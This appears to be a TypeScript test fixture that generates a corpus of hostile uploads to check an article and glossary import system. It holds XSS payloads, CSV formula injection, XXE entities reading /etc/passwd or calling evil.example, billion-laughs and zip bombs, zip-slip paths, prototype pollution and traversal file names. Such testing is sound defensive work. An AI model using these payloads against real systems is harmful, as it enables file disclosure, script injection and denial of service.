import { gzipSync } from 'node:zlib';
import { makeDocx, makeZip } from '../support/zip.ts';

/** One file that somebody who means harm might upload. */
export interface HostileFile {
  /** Its name; unique, and with the suffix that decides its format. */
  readonly name: string;
  /** What it tries. */
  readonly attack: string;
  readonly bytes: Uint8Array;
  readonly kind: 'article' | 'glossary';
}

/** Each calls `hit()` if a page lets it run. */
export const PAYLOADS: readonly string[] = [
  '<script>hit()</script>',
  '<img src=x onerror=hit()>',
  '<svg/onload=hit()>',
  '"><script>hit()</script>',
  "'><img src=x onerror=hit()>",
  '</title></style></textarea></script><script>hit()</script>',
  '<!--><script>hit()</script>-->',
  ']]><script>hit()</script>',
  '" onmouseover="hit()" x="',
  "' onfocus='hit()' autofocus x='",
  '`><script>hit()</script>',
  '<iframe srcdoc="<script>parent.hit()</script>">',
  '<a href="javascript:hit()">ici</a>',
  '[ici](javascript:hit())',
  '<javascript:hit()>',
  '&lt;script&gt;hit()&lt;/script&gt;',
  '<scr<script>ipt>hit()</scr</script>ipt>',
  '<base href="http://evil.example/"><link rel=stylesheet href=x.css>',
];

const SENTENCE = 'Les ministres se sont réunis à Oslo pour parler du port.';
const xml = (text: string) => text.replace(/[&<>"]/g, (sign) => `&#${sign.charCodeAt(0)};`);
const quoted = (text: string) => JSON.stringify(text);

/** Where a payload may stand in an article: suffix, and the file around it. */
const ARTICLE_PLACES: Readonly<Record<string, (payload: string) => string | Uint8Array>> = {
  'title.txt': (p) => `${p}\n\n${SENTENCE} ${SENTENCE}`,
  'body.txt': (p) => `Un titre\n\n${SENTENCE} Voici ${p} dans le texte.`,
  'title.md': (p) => `# ${p}\n\n${SENTENCE}`,
  'body.md': (p) => `# Un titre\n\n## Partie ${p}\n\n- ${p}\n\n> ${p}\n\n${SENTENCE} Voici ${p}.`,
  'code.md': (p) =>
    `# Un titre\n\n\`\`\`${p}\n${p}\n\`\`\`\n\n${SENTENCE}\n\n| a | ${p} |\n|---|---|\n| ${p} | b |\n`,
  'matter.md': (p) =>
    `---\ntitle: ${quoted(p)}\nauthor: ${quoted(p)}\ndate: ${quoted(p)}\nlanguage: ${quoted(p)}\nurl: ${quoted(p)}\n---\n${SENTENCE}`,
  'raw.html': (p) => `<!doctype html><title>${p}</title><main><h1>${p}</h1><p>${SENTENCE} ${p}</p></main>`,
  'escaped.html': (p) =>
    `<!doctype html><html lang="${xml(p)}"><title>${xml(p)}</title><main><h1>${xml(p)}</h1><p>${SENTENCE} ${xml(p)}</p></main>`,
  'meta.html': (p) =>
    `<!doctype html><meta property="og:title" content="${xml(p)}"><meta name=author content="${xml(p)}"><meta property="article:published_time" content="${xml(p)}"><link rel=canonical href="${xml(p)}"><main><p>${SENTENCE}</p><a href="${xml(p)}">x</a></main>`,
  'body.docx': (p) =>
    makeDocx(`<w:p><w:r><w:t>${xml(p)}</w:t></w:r></w:p><w:p><w:r><w:t>${SENTENCE}</w:t></w:r></w:p>`),
};

/** Where it may stand in a glossary; "port" is in the text that the pages are made of. */
const GLOSSARY_PLACES: Readonly<Record<string, (payload: string) => string>> = {
  'translation.csv': (p) => `fr,en\nport,"${p.replaceAll('"', '""')}"\n`,
  'fields.csv': (p) =>
    `concept,language,term,domain,definition,note\n"${p.replaceAll('"', '""')}",fr,port,"${p.replaceAll('"', '""')}","${p.replaceAll('"', '""')}","${p.replaceAll('"', '""')}"\n"${p.replaceAll('"', '""')}",en,harbour,,,\n`,
  'terms.tbx': (p) =>
    `<?xml version="1.0"?><tbx type="TBX-Basic" style="dca" xml:lang="en" xmlns="urn:iso:std:iso:30042:ed-2"><text><body><conceptEntry id="c1"><descrip type="definition">${xml(p)}</descrip><langSec xml:lang="fr"><termSec><term>port</term></termSec></langSec><langSec xml:lang="en"><termSec><term>${xml(p)}</term></termSec></langSec></conceptEntry></body></text></tbx>`,
  'memory.tmx': (p) =>
    `<?xml version="1.0"?><tmx version="1.4"><header srclang="fr"/><body><tu><tuv xml:lang="fr"><seg>port</seg></tuv><tuv xml:lang="en"><seg>${xml(p)}</seg></tuv></tu></body></tmx>`,
};

const FORMULAS = [
  '=cmd|calc!A0',
  '=HYPERLINK("http://evil.example")',
  '+1+1',
  '-2+3',
  '@SUM(A1)',
  '\t=1+1',
  '\r=1+1',
  '＝1+1',
];

/** XML that reads files or grows without end. */
const DOCTYPES: Readonly<Record<string, string>> = {
  'file entity': '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>',
  'network entity': '<!DOCTYPE x [<!ENTITY e SYSTEM "http://evil.example/x">]>',
  'parameter entity': '<!DOCTYPE x [<!ENTITY % e SYSTEM "file:///etc/passwd"> %e;]>',
  'billion laughs': `<!DOCTYPE x [<!ENTITY e0 "ha">${Array.from({ length: 10 }, (_, n) => `<!ENTITY e${n + 1} "${`&e${n};`.repeat(10)}">`).join('')}<!ENTITY e "&e10;">]>`,
  'quadratic growth': `<!DOCTYPE x [<!ENTITY e "${'a'.repeat(50_000)}">]>`,
  'external DTD': '<!DOCTYPE x SYSTEM "http://evil.example/x.dtd">',
};

/** What is repeated to make patterns and parsers slow. */
const REPEATED = [
  'a',
  ' ',
  '0',
  '.',
  '<',
  '[',
  '(',
  '!',
  '"',
  '«',
  '- ',
  '> ',
  '*',
  '_',
  '`',
  '|',
  '#',
  '&',
  '@a',
  'a.b',
  '://',
  '\n ',
  '\u0301',
  '\u200b',
  '\u202e',
  'a\u2019',
  '[a](',
  '<a ',
  '<!--',
  '\\',
];

const POLLUTION = ['__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty', 'valueOf'];

function article(name: string, attack: string, content: string | Uint8Array): HostileFile {
  return { name, attack, bytes: Buffer.from(content), kind: 'article' };
}
function glossary(name: string, attack: string, content: string | Uint8Array): HostileFile {
  return { name, attack, bytes: Buffer.from(content), kind: 'glossary' };
}

function scripts(): HostileFile[] {
  return PAYLOADS.flatMap((payload, index) => [
    ...Object.entries(ARTICLE_PLACES).map(([place, make]) =>
      article(`script-${index}-${place}`, 'script in an article', make(payload)),
    ),
    ...Object.entries(GLOSSARY_PLACES).map(([place, make]) =>
      glossary(`script-${index}-${place}`, 'script in a glossary', make(payload)),
    ),
  ]);
}

function formulas(): HostileFile[] {
  return FORMULAS.flatMap((formula, index) => [
    glossary(
      `formula-${index}.csv`,
      'formula in a table',
      `fr,en\nport,"${formula.replaceAll('"', '""')}"\n`,
    ),
    glossary(`formula-${index}.tsv`, 'formula in a table', `fr\ten\nport\t${formula.trim()}\n`),
  ]);
}

function entities(): HostileFile[] {
  return Object.entries(DOCTYPES).flatMap(([name, doctype], index) => [
    glossary(
      `entity-${index}.tbx`,
      `XML with a ${name}`,
      `<?xml version="1.0"?>${doctype}<tbx><text><body><conceptEntry><langSec xml:lang="fr"><termSec><term>&e;</term></termSec></langSec></conceptEntry></body></text></tbx>`,
    ),
    glossary(
      `entity-${index}.tmx`,
      `XML with a ${name}`,
      `<?xml version="1.0"?>${doctype}<tmx version="1.4"><body><tu><tuv xml:lang="fr"><seg>${'&e;'.repeat(500)}</seg></tuv></tu></body></tmx>`,
    ),
    article(
      `entity-${index}.html`,
      `markup with a ${name}`,
      `<?xml version="1.0"?>${doctype}<html><body><p>${SENTENCE} &e;</p></body></html>`,
    ),
  ]);
}

function nesting(): HostileFile[] {
  const deep = (open: string, close: string, depth: number) =>
    open.repeat(depth) + SENTENCE + close.repeat(depth);
  return [
    article('deep-div.html', 'deep nesting', deep('<div>', '</div>', 50_000)),
    article('deep-list.html', 'deep nesting', deep('<ul><li>', '</li></ul>', 20_000)),
    article('deep-table.html', 'deep nesting', deep('<table><tr><td>', '</td></tr></table>', 10_000)),
    article('deep-inline.html', 'deep nesting', deep('<b><i>', '', 50_000)),
    article('deep-quote.md', 'deep nesting', `${'> '.repeat(20_000)}${SENTENCE}`),
    article(
      'deep-list.md',
      'deep nesting',
      Array.from({ length: 2000 }, (_, n) => `${' '.repeat(2 * n)}- a`).join('\n'),
    ),
    article('deep-emphasis.md', 'deep nesting', deep('*_', '_*', 20_000)),
    article('deep-link.md', 'deep nesting', deep('[', '](x)', 20_000)),
    article('deep-matter.md', 'deep nesting', `---\na: ${'['.repeat(20_000)}\n---\n${SENTENCE}`),
    article(
      'aliases.md',
      'YAML that grows',
      `---\na: &a [x]\n${Array.from({ length: 30 }, (_, n) => `b${n}: &b${n} [${`*${n === 0 ? 'a' : `b${n - 1}`},`.repeat(9)}]`).join('\n')}\n---\n${SENTENCE}`,
    ),
    glossary('deep.tbx', 'deep nesting', `<?xml version="1.0"?><tbx>${'<a>'.repeat(100_000)}`),
    glossary(
      'deep.tmx',
      'deep nesting',
      `<?xml version="1.0"?><tmx><body><tu><tuv xml:lang="fr"><seg>${'<hi>'.repeat(50_000)}`,
    ),
  ];
}

function repetition(): HostileFile[] {
  return REPEATED.flatMap((text, index) => {
    const many = text.repeat(Math.ceil(60_000 / text.length));
    return [
      article(`repeated-${index}.txt`, 'endless repetition', `Un titre\n\n${many}! ${SENTENCE}`),
      article(`repeated-${index}.md`, 'endless repetition', `${many}!\n\n${SENTENCE}`),
      article(
        `repeated-${index}.html`,
        'endless repetition',
        `<title>${many}</title><p>${SENTENCE}</p>${many}`,
      ),
      glossary(`repeated-${index}.csv`, 'endless repetition', `fr,en\n${many},x\nport,${many}\n`),
    ];
  });
}

function pollution(): HostileFile[] {
  return POLLUTION.flatMap((name) => [
    article(
      `pollution-${name}.md`,
      'prototype pollution',
      `---\n${name}:\n  polluted: yes\ntitle: Un titre\n---\n${SENTENCE}`,
    ),
    article(`pollution-${name}-title.txt`, 'prototype pollution', `${name}\n\n${name} ${SENTENCE} ${name}.`),
    glossary(
      `pollution-${name}.csv`,
      'prototype pollution',
      `concept,language,term,${name}\n${name},${name},${name},x\n${name},fr,port,x\n${name},en,${name},x\n`,
    ),
  ]);
}

function archives(): HostileFile[] {
  const zeros = '\0'.repeat(40_000_000);
  return [
    article(
      'bomb.docx',
      'zip bomb',
      makeZip({ '[Content_Types].xml': '<Types/>', 'word/document.xml': zeros }),
    ),
    article(
      'lying-bomb.docx',
      'zip bomb',
      makeZip({ '[Content_Types].xml': '<Types/>', 'word/document.xml': zeros }, 10),
    ),
    article(
      'many.docx',
      'zip bomb',
      makeZip(Object.fromEntries(Array.from({ length: 5000 }, (_, n) => [`word/${n}.xml`, 'x']))),
    ),
    article(
      'paths.docx',
      'paths in an archive',
      makeZip({ '../../etc/passwd': 'x', '/abs': 'x', 'word/document.xml': '<x/>' }),
    ),
    article('empty.docx', 'broken archive', makeZip({})),
    article(
      'cut.docx',
      'broken archive',
      makeDocx(`<w:p><w:r><w:t>${SENTENCE}</w:t></w:r></w:p>`).subarray(0, 300),
    ),
    article(
      'entities.docx',
      'XML in an archive',
      makeZip({ 'word/document.xml': `${DOCTYPES['billion laughs']}<x>&e;</x>` }),
    ),
    article('gzip.txt', 'archive by another name', gzipSync(Buffer.alloc(1_000_000))),
    glossary(
      'bomb.xlsx',
      'zip bomb',
      makeZip({ '[Content_Types].xml': '<Types/>', 'xl/workbook.xml': zeros }),
    ),
    glossary('paths.xlsx', 'paths in an archive', makeZip({ '../xl/workbook.xml': '<x/>' })),
  ];
}

function encodings(): HostileFile[] {
  const utf16 = (text: string) => Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text, 'utf16le')]);
  return [
    article('lone-high.txt', 'lone surrogate', utf16(`Un \ud83d titre\n\n${SENTENCE}`)),
    article('lone-low.txt', 'lone surrogate', utf16(`Un titre\n\n${SENTENCE} \udc00 fin.`)),
    article(
      'lone-utf8.txt',
      'lone surrogate',
      Buffer.concat([Buffer.from('Un titre\n\n'), Buffer.from([0xed, 0xa0, 0x80]), Buffer.from(SENTENCE)]),
    ),
    article('lone-entity.html', 'lone surrogate', `<title>&#xD800;</title><p>${SENTENCE} &#xDFFF;</p>`),
    article('lone-matter.md', 'lone surrogate', `---\ntitle: "\\ud800"\n---\n${SENTENCE}`),
    glossary('lone.csv', 'lone surrogate', utf16('fr,en\nport,\ud800harbour\n')),
    article('nul.txt', 'control characters', `Un\0titre\n\n${SENTENCE}\u0007\u001b[31m`),
    article(
      'overlong.txt',
      'overlong UTF-8',
      Buffer.concat([
        Buffer.from('Titre\n\n'),
        Buffer.from([0xc0, 0xbc, 0xe0, 0x80, 0xbc]),
        Buffer.from(SENTENCE),
      ]),
    ),
    article(
      'bom-swap.txt',
      'misleading mark',
      Buffer.concat([Buffer.from([0xfe, 0xff]), Buffer.from(SENTENCE)]),
    ),
    article(
      'utf7.html',
      'UTF-7',
      `<meta charset=utf-7><title>+ADw-script+AD4-hit()+ADw-/script+AD4-</title><p>${SENTENCE}</p>`,
    ),
    article(
      'iso-2022.html',
      'stateful encoding',
      `<meta charset=iso-2022-jp><title>\u001b$B</title><p>${SENTENCE}</p>`,
    ),
    article('long-line.txt', 'an enormous line', `${SENTENCE} `.repeat(30_000)),
    article('long-word.txt', 'an enormous word', `Un titre\n\n${'x'.repeat(1_000_000)} ${SENTENCE}`),
    article('many-lines.txt', 'a million lines', `${SENTENCE}\n${'\n'.repeat(1_000_000)}`),
    article(
      'many-links.html',
      'a hundred thousand elements',
      `<p>${SENTENCE}</p>${'<a href=x>y</a>'.repeat(100_000)}`,
    ),
    glossary('wide.csv', 'a hundred thousand columns', `fr,en${',x'.repeat(100_000)}\nport,harbour\n`),
    glossary('quote.csv', 'a quotation that never ends', `fr,en\n"port,${'x'.repeat(500_000)}`),
  ];
}

/** The corpus: the same files every time. */
export function hostileCorpus(): HostileFile[] {
  return [
    ...scripts(),
    ...formulas(),
    ...entities(),
    ...nesting(),
    ...repetition(),
    ...pollution(),
    ...archives(),
    ...encodings(),
  ];
}

/** Keys that somebody might upload under. */
export const HOSTILE_KEYS: readonly string[] = [
  '../../etc/passwd',
  'a/../../b.txt',
  './a.txt',
  '..',
  'a//b.txt',
  'CON',
  'aux.txt',
  'a:b|c?d*e.txt',
  'a\u202Etxt.exe',
  'a\u200Bb.txt',
  'a b + c %2F %00.txt',
  '%2e%2e%2fx.txt',
  '<script>hit()</script>.txt',
  '"onmouseover="hit()".txt',
  "it's.txt",
  'a&b;c=d.txt',
  'é\u0301.txt',
  '\u{1F600}.txt',
  '__proto__',
  'constructor/prototype.txt',
  '~.txt',
  `${'x'.repeat(900)}.txt`,
  'a\\..\\b.txt',
  'a\tb.txt',
  'javascript:hit().txt',
];
